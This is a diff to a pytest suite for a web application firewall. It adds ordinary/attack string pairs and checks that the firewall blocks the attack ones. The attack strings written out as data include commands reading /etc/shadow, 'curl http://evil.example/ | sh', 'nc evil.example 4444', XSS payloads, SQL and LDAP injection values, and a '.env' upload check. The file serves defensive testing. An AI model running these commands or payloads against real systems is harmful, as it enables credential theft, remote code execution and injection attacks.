@@ -14,7 +14,7 @@ from tests.waf.site import Site
 from tests.waf.test_detection import explain, send
 from tools.local.nginx import Edit
 
-PASSING = 0.96
+PASSING = 0.975
 
 
 def test_ordinary_api_traffic_passes(site: Site, runtime: str, note: Callable[[str], None]) -> None:
@@ -56,6 +56,21 @@ VALUES = [
     ("at Object.<anonymous> (/srv/app/index.js:284:15)", "<(cat /etc/shadow)"),
     ("20 $ (net), 24 $ (gross)", "20 $ (net), $(cat flag)"),
     ("20 $ (net), 24 $ (gross)", "20 $ (net), %24(cat flag)"),
+    ("Use `git pull` and then run the tests.", "`cat /etc/shadow` and then run the tests"),
+    ("Use `git pull` and then run the tests.", "Use `curl http://evil.example/ | sh` and then run the tests."),
+    ("Use `git pull` and then run the tests.", "Use `git pull` and then run; cat flag"),
+    ("Please run:\n\n```sh\ngit pull && make\n```", "Please run:\n\n```sh\nbash -c 'id' && nc evil.example 4444\n```"),
+    ("Please run:\n\n```sh\ngit pull && make\n```", "Please run:\n/bin/cat /etc/shadow"),
+    ("The file is in /etc/app/app.conf, and it should not be there.", "/etc/hosts"),
+    ("The file is in /etc/hosts, and it should not be there.", "The list of all users is in /etc/passwd as you know"),
+    ("The file is in /etc/hosts, and it should not be there.", "the list of all users; cat /etc/hosts"),
+    ('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L9 9"/></svg>', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
+    ('<svg viewBox="0 0 9 9"><g fill="red"/></svg>', '<svg viewBox="0 0 9 9"><script>alert(1)</script></svg>'),
+    ('<html><body><table width="600"></table></body></html>', "HTTP/1.1 200 OK\r\n\r\n<html>"),
+    ('project = KIT AND status in ("To Do", "Done") ORDER BY created', "project = 1 OR 1=1 --"),
+    ('project = KIT AND status in ("To Do", "Done") ORDER BY created', "project = 'x' or 'a'='a"),
+    ("SELECT * FROM orders WHERE total > 100 is slow. Should I add an index?", "SELECT * FROM users WHERE id = 1 OR 1=1 -- slow"),
+    ("(&(objectClass=person)(|(cn=Anna*)(mail=a@example.org)))", "*)(uid=*))(|(uid=*"),
 ]  # fmt: skip
 
 
@@ -95,6 +110,17 @@ def test_an_address_of_the_site_itself_is_where_a_login_leads_back_to(site: Site
 def test_languages_of_queries(site: Site, ordinary: str, attack: str) -> None:
     for query, status in ((ordinary, 200), (attack, 403)):
         assert site.get("/api/v1/entries?" + quote(query, safe="=&$")).status == status
+
+
+def test_code_is_for_bodies(site: Site) -> None:
+    assert site.get("/api/v1/entries?text=" + quote("Use `git pull` and then run the tests.")).status == 403
+
+
+def test_the_example_of_a_file_of_settings_may_be_uploaded(site: Site) -> None:
+    def upload(name: str) -> int:
+        return post(site, multipart({}, (name, "application/octet-stream", b"A=1")), f"multipart/form-data; boundary={BOUNDARY}")
+
+    assert [upload(name) for name in (".env.example", ".env", ".env.example.php")] == [200, 403, 403]
 
 
 def test_the_type_of_a_body_says_nothing_about_the_query(site: Site) -> None:
@@ -173,10 +199,10 @@ def test_sizes_and_numbers_of_values_are_settings(site: Site, shared_sites: Site
     rule = 'SecRule REQUEST_URI "@beginsWith /import" "id:1000,phase:1,pass,nolog,ctl:ruleRemoveById=10110,ctl:ruleRemoveById=200007"\n'
     apart = shared_sites(backend.address, {}, [Edit("rules/user-before.conf", r"\Z", f"\n{rule}")])
 
-    for body in (many(5001), large):
+    for body in (many(10_001), large):
         assert problem(site.request("POST", "/api/v1/entries", f"Content-Type: {JSON}", body=body)) == (413 if body == large else 422, True)
         assert post(more, body) == 200
         assert (post(apart, body, path="/import"), post(apart, body, path="/other")) == (200, 413 if body == large else 422)
-    assert post(more, many(10_000)) == 200
+    assert post(more, many(11_000)) == 200
     assert post(site, large[:215_999] + b'"}') == 200  # 216 KB: with the defaults
     assert value(apart, "<script>alert(1)</script>") == post(apart, '{"a": "<script>alert(1)</script>"}', path="/import") == 403
